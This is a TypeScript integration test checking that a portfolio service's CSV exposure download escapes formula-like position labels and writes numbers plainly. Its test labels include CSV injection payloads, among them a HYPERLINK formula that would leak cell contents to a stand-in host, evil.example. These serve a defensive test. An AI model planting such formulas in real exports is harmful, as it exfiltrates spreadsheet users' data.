// CSV injection, end to end: a portfolio whose option positions carry formula-like labels (an
// option's symbol is free text; a stock's must be a ticker) and the drill-down's CSV download
// (`/portfolios/{id}/exposures/stocks?format=csv`, the dashboard's button). Every such label
// must come out with a leading `'`, read from the bytes; numbers, negative ones included, not.
import { beforeAll, describe, expect, it } from "vitest";
import type { PortfolioResponse } from "../../worker/api/portfolios.ts";
import { parseCsv } from "../../worker/market-data/csv.ts";
import { call, ensureBatchOutput, json, latestDate } from "./support.ts";

beforeAll(ensureBatchOutput);

const own = { sub: "csv-owner", org: "csv-org" } as const;
const labels = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3"];

describe("CSV downloads neutralise formula-like text", () => {
  it("prefixes every formula-like label in the drill-down CSV with ' and leaves numbers alone", async () => {
    const probe = { name: "CSV injection probe", cash: 10_000 };
    const created = await call("/portfolios", { ...own, method: "POST", body: probe });
    const portfolio = await json<PortfolioResponse>(created, 201);
    for (const [index, symbol] of labels.entries()) {
      // Alternate long and short, so the CSV has negative weights and contributions too.
      const quantity = index % 2 === 0 ? 3 : -2;
      const body = {
        symbol,
        instrument: "option",
        quantity,
        opened_on: "2026-01-02",
        underlying_symbol: "SPY",
        option_type: "call",
        strike: 500,
        expiry: "2026-12-18",
        delta: 0.5,
      };
      await json(await call(`/portfolios/${portfolio.id}/positions`, { ...own, method: "POST", body }), 201);
    }

    const query = `factor=market_beta&date=${latestDate}&format=csv`;
    const response = await call(`/portfolios/${portfolio.id}/exposures/stocks?${query}`, own);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const text = new TextDecoder().decode(bytes);

    // The raw bytes: no line and no field starts with a formula character, quoted or not.
    const escaped = (label: string) => label.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
    for (const label of labels) expect(text).not.toMatch(new RegExp(`(^|\\r\\n|,)"?${escaped(label)}`));
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click"")"`);
    expect(text).toContain("\r\n'@SUM(1+1),SPY,option,");
    expect(text).toContain("\r\n'+1+1,SPY,option,");
    expect(text).toContain("\r\n'-2+3,SPY,option,");

    const { records, errors } = parseCsv(text);
    expect(errors).toEqual([]);
    const [header, ...rows] = records.map((record) => record.fields);
    expect(header).toEqual([
      "symbol",
      "beta_symbol",
      "instrument",
      "market_value",
      "weight",
      "delta",
      "beta",
      "contribution",
      "contribution_dollar",
      "quality_flag",
    ]);
    expect(rows.map((row) => row[0]).sort()).toEqual(labels.map((label) => `'${label}`).sort());
    const column = (name: string) => header!.indexOf(name);
    for (const row of rows) {
      for (const name of ["market_value", "weight", "delta", "beta", "contribution", "contribution_dollar"]) {
        // A number is written as a number: it parses back exactly, with no quote in front.
        const field = row[column(name)]!;
        expect(field, `${row[0]} ${name}`).toMatch(/^-?\d/);
        expect(String(Number(field))).toBe(field);
      }
    }
    // The short positions' weights are negative numbers, written as such.
    expect(rows.filter((row) => row[column("weight")]!.startsWith("-"))).toHaveLength(2);
  });
});
